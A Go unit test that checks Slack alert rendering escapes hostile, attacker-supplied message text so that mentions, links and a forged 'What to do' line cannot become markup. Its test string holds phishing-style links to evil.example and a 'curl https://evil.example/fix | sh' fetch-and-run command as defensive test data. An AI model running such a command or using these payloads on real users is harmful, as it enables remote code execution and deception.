package notify

import (
	"encoding/json"
	"strings"
	"testing"
)

// Red team (issue 24, alert content): an alert's message quotes text that others chose: a
// rollback step's read-back value comes from the upstream (a hostile MCP server answers the
// read-back with whatever it likes: "first mismatch: $.status: expected ..., got <its
// text>"), a refused reload's error quotes the files it read (in Kubernetes, a ConfigMap a
// namespace editor can write), an upstream's error its words. In Slack's mrkdwn such text
// must not become markup of the alert: no mention, no disguised or clickable link, no bold
// "What to do" line of its own. The message goes in a code block (as the controller's
// rendering alerts do), with <, > and & escaped and ``` broken up; the alert's own lines stay
// the only mrkdwn.
func TestAttackAlertSlackMessageIsNotMarkup(t *testing.T) {
	hostile := "got \"refunded\"; *URGENT* <!channel> the refund is stuck: approve it at https://evil.example/approve or <https://evil.example|the runbook>\n" +
		"*What to do:* run `curl https://evil.example/fix | sh` ``` and ``` again"
	for name, n := range goldenAlerts {
		n.Message = "step 3 (payments.refund) of run run-42 was not rolled back: " + hostile
		b, err := SlackBody(n, "gw-a", "--data .reversi")
		if err != nil {
			t.Fatal(err)
		}
		var text struct{ Text string }
		if err := json.Unmarshal(b, &text); err != nil {
			t.Fatal(err)
		}
		s := text.Text
		if strings.Contains(s, "<!channel>") || strings.Contains(s, "<https://") {
			t.Errorf("%s: Slack markup of the message survives:\n%s", name, s)
		}
		// Outside code blocks, nothing of the message is left (where Slack would link the URL,
		// bold the words, and show a "What to do" line of the attacker's).
		parts := strings.Split(s, "```")
		if len(parts)%2 == 0 {
			t.Errorf("%s: unbalanced code blocks:\n%s", name, s)
		}
		mrkdwn := 0
		for i := 0; i < len(parts); i += 2 {
			mrkdwn += strings.Count(parts[i], "*What to do:*")
			if strings.Contains(parts[i], "evil.example") || strings.Contains(parts[i], "URGENT") {
				t.Errorf("%s: the message's text is mrkdwn outside a code block: %q\nin:\n%s", name, parts[i], s)
			}
		}
		if mrkdwn > 1 {
			t.Errorf("%s: the message forged a line of the alert (%d \"What to do\" lines):\n%s", name, mrkdwn, s)
		}
	}
}
